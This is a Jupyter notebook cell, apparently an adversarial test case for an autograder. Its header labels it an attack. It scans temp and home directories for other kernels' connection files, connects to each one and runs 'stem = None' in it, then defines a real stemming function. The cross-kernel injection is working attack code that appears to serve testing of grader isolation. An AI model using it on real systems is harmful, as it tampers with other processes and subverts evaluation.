# ---
# attack: Connection files of other kernels are looked for, and code is run in these kernels.
# ---

# %% grade_id="stem"
import glob
import json

from ipykernel import get_connection_file
from jupyter_client import BlockingKernelClient

own = os.path.realpath(get_connection_file())
folders = ("/tmp", os.environ.get("TMPDIR", "/tmp"), os.path.expanduser("~"), "/run")
patterns = [folder + levels for folder in folders for levels in ("/*.json", "/*/*.json")]
paths = set()
for _ in range(80):
    for pattern in patterns:
        paths.update(glob.glob(pattern))
    # Another kernel may start a little later.
    if any("/kernel-" in path and os.path.realpath(path) != own for path in paths):
        break
    time.sleep(0.1)
print(len(paths))
for path in paths:
    try:
        if os.path.realpath(path) == own:
            continue
        with open(path) as file:
            connection = json.load(file)
        if "signature_scheme" not in connection:
            continue
        print("reached".upper(), path)
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        print(client.execute("stem = None", silent=True))
    except (OSError, ValueError) as error:
        print(path, error)
        # It was there, be it that it has ended by now.
        if "/kernel-" in path:
            print("reached".upper())


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
